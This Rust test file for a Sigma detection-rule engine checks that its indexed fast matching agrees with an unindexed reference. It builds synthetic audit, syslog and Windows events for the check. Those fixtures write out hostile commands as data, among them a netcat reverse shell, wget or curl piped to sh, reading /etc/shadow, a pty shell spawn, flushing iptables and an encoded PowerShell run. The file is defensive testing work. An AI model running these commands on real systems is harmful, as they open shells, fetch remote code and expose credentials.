//! The fast paths (log-source index, literal prefilter, path trie, keyword scan) against the
//! reference (every variant evaluated, fields resolved path by path) on the corpus rules and
//! varied events: ASCII, non-ASCII, numbers, booleans, arrays, nested objects, odd shapes.

use std::path::{Path, PathBuf};

use serde_json::{json, Value};

use crate::fields::EventView;
use crate::{regression, SigmaRules};

fn corpora() -> PathBuf {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let dir = match std::env::var_os("FERRODEF_CORPORA") {
        Some(d) => root.join(d),
        None => root.join("../shared/corpora"),
    };
    assert!(dir.is_dir(), "corpus not found: {}", dir.display());
    dir
}

fn execve(exe: &str, args: &[&str]) -> Value {
    json!({
        "utctimestamp": "2026-05-01T10:00:00Z", "receivedtimestamp": "2026-05-01T10:00:00Z",
        "category": "execution", "hostname": "web1", "processname": "auditd", "severity": "INFO",
        "summary": format!("execve {}", args.join(" ")), "tags": ["auditd"],
        "details": {"audittype": "SYSCALL", "recordtypes": ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"],
                    "syscall": "execve", "exe": exe, "args": args, "command": args.join(" "),
                    "cwd": "/home/alice", "uid": "1000", "auid": "1000", "username": "alice", "ses": "3",
                    "pid": 4242, "ppid": "4000", "success": true, "paths": [exe]}
    })
}

fn syslog(program: &str, summary: &str) -> Value {
    json!({
        "utctimestamp": "2026-05-01T10:00:00Z", "category": "syslog", "hostname": "h",
        "processname": program, "summary": summary, "tags": ["syslog"],
        "details": {"program": program}
    })
}

/// Events of many shapes.
fn varied_events() -> Vec<Value> {
    let mut v: Vec<Value> = (0..400)
        .map(|i| {
            ferrodef_event::bench_mix::generate_at(
                i,
                "eq",
                ferrodef_event::bench_mix::Times::Fixed { at_ms: 0 },
                i % 7 == 0,
            )
        })
        .collect();
    let cmds: [&[&str]; 14] = [
        &["ls", "-la"],
        &["base64", "-d", "/tmp/x.b64"],
        &["chmod", "+x", "/tmp/payload"],
        &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
        &["crontab", "-l"],
        &["whoami"],
        &["WHOAMI"],
        &["wget", "http://x/y", "-O", "-", "|", "sh"],
        &["uname", "-a"],
        &["grep", "XEN", "/proc/cpuinfo"],
        &["cat", "/etc/shadow"],
        &["İd", "ſh", "KELVIN\u{212A}"],
        &["python3", "-c", "import pty;pty.spawn('/bin/bash')"],
        &["iptables", "-F"],
    ];
    for c in cmds {
        v.push(execve(&format!("/usr/bin/{}", c[0]), c));
        v.push(execve(&format!("/USR/BIN/{}", c[0].to_uppercase()), c));
    }
    for (p, s) in [
        (
            "sshd",
            "Failed password for invalid user admin from 203.0.113.9 port 4711 ssh2",
        ),
        (
            "sshd",
            "error: buffer_get_ret: trying to get more bytes 4 than in buffer 0",
        ),
        ("kernel", "device eth0 entered promiscuous mode"),
        (
            "sudo",
            "alice : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
        ),
        ("CRON", "(root) CMD (wget http://x | sh)"),
        ("vsftpd", "Connection refused: tcp_wrappers denial"),
        ("clamd", "Found FOUND in /tmp/eicar"),
        ("sshd", "Ünïcödé password för ÄDMIN"),
        (
            "cisco",
            "%SYS-5-CONFIG_I: Configured from console by admin on vty0",
        ),
    ] {
        v.push(syslog(p, s));
    }
    // Odd shapes: numbers, booleans, nulls, nested objects, arrays of objects, details not
    // an object, keys differing only by case, arrays where objects are expected.
    v.extend([
        json!({"utctimestamp": "t", "details": "not an object", "summary": 5}),
        json!({"utctimestamp": "t", "details": ["a", {"exe": "/bin/sh"}], "summary": ["x", ["y"]]}),
        json!({"utctimestamp": "t", "details": {"EXE": "/bin/sh", "Exe": "/bin/bash", "args": {"0": "nc", "1": "-e"}}}),
        json!({"utctimestamp": "t", "details": {"args": ["nc", 4444, null, true, {"a": "b"}], "exe": null, "paths": [["/bin/sh"]]}}),
        json!({"utctimestamp": "t", "exe": "/bin/sh", "command": "nc -e /bin/sh", "tags": ["auditd"], "category": "execution"}),
        json!({"utctimestamp": "t", "category": "execution", "details": {"exe": "/usr/bin/nc", "command": "nc -lvp 4444", "proctitle": "nc", "destinationport": 4444, "id": {"orig_h": "10.0.0.1", "resp_h": "203.0.113.1", "resp_p": 445}}}),
        json!({"utctimestamp": "t", "_path": "dns", "details": {"query": "xn--80ak6aa92e.com", "qtype_name": "TXT", "answers": ["a", "b"]}}),
        json!({"utctimestamp": "t", "details": {"_path": "http", "uri": "/wp-admin/../etc/passwd", "user_agent": "sqlmap/1.0", "method": "POST", "status": 200}}),
        json!({"utctimestamp": "t", "processname": "sshd", "summary": "Did not receive identification string from 1.2.3.4", "details": {"nested": {"deep": [{"deeper": "Accepted publickey"}]}}}),
        json!({"utctimestamp": "t", "processname": ["sshd", "cron"], "category": ["execution", "syslog"], "tags": "auditd", "details": {}}),
        json!({"utctimestamp": "t", "details": {"exe": 12.5, "command": 1e300, "uid": -1, "pid": 18446744073709551615u64}}),
        json!({"EventID": 4625, "Channel": "Security", "TargetUserName": "admin", "IpAddress": "1.2.3.4"}),
        json!({"Event": {"System": {"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational"}, "EventData": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd /c whoami"}}}),
        json!({"winlog": {"event_id": 4688, "channel": "Security", "event_data": {"NewProcessName": "C:\\x\\powershell.exe", "CommandLine": "powershell -enc AAAA"}}}),
        json!({"exe": "/bin/sh", "CommandLine": "sh -c 'curl x | sh'", "Image": "/usr/bin/curl"}),
    ]);
    v
}

fn windows_samples() -> Vec<Value> {
    fn collect(dir: &Path, out: &mut Vec<PathBuf>) {
        for e in std::fs::read_dir(dir).into_iter().flatten().flatten() {
            let p = e.path();
            if p.is_dir() {
                collect(&p, out);
            } else if p.extension().is_some_and(|x| x == "json") {
                out.push(p);
            }
        }
    }
    let mut files = Vec::new();
    collect(
        &corpora().join("sigma/regression_windows/regression_data"),
        &mut files,
    );
    files.sort();
    files
        .iter()
        .flat_map(|p| regression::read_events(p).unwrap_or_default())
        .collect()
}

fn check(rules: &SigmaRules, events: &[Value]) -> usize {
    let mut matched = 0;
    for (i, e) in events.iter().enumerate() {
        let fast: Vec<usize> = rules
            .matches(e)
            .iter()
            .filter_map(|r| rules.rules().iter().position(|x| std::ptr::eq(x, *r)))
            .collect();
        let slow = rules.matches_unindexed(e);
        assert_eq!(fast, slow, "event {i}: {e}");
        matched += usize::from(!fast.is_empty());
    }
    matched
}

#[test]
fn corpus_rules_match_as_the_reference_on_varied_events() {
    let (rules, problems) = SigmaRules::load_dir(&corpora().join("sigma/rules"));
    assert!(problems.is_empty(), "{problems:?}");
    let mut events = varied_events();
    events.extend(windows_samples());
    let matched = check(&rules, &events);
    assert!(
        matched >= 20,
        "only {matched} events match: the test would prove little"
    );
}

#[test]
fn windows_rules_match_as_the_reference_on_their_samples() {
    let (rules, _) = SigmaRules::load_dir(&corpora().join("sigma/regression_windows"));
    let mut events = windows_samples();
    events.extend(varied_events());
    let matched = check(&rules, &events);
    assert!(matched >= 50, "only {matched} events match");
}

#[test]
fn every_field_resolves_as_path_by_path() {
    let (rules, _) = SigmaRules::load_dir(&corpora().join("sigma/rules"));
    let (table, mapping) = rules.table_and_mapping();
    assert!(table.len() > 50, "{}", table.len());
    let mut events = varied_events();
    events.extend(windows_samples().into_iter().take(200));
    let mut present = 0;
    for e in &events {
        let Some(fmt) = mapping.detect(e) else {
            continue;
        };
        let fast = EventView::new(e.into(), fmt, table, mapping);
        let slow = EventView::new_unindexed(e.into(), fmt, table, mapping);
        for id in 0..table.len() {
            assert_eq!(fast.get(id), slow.get(id), "field {id} of {e}");
            present += usize::from(fast.get(id).is_some());
        }
    }
    assert!(present > 1000, "{present}");
}
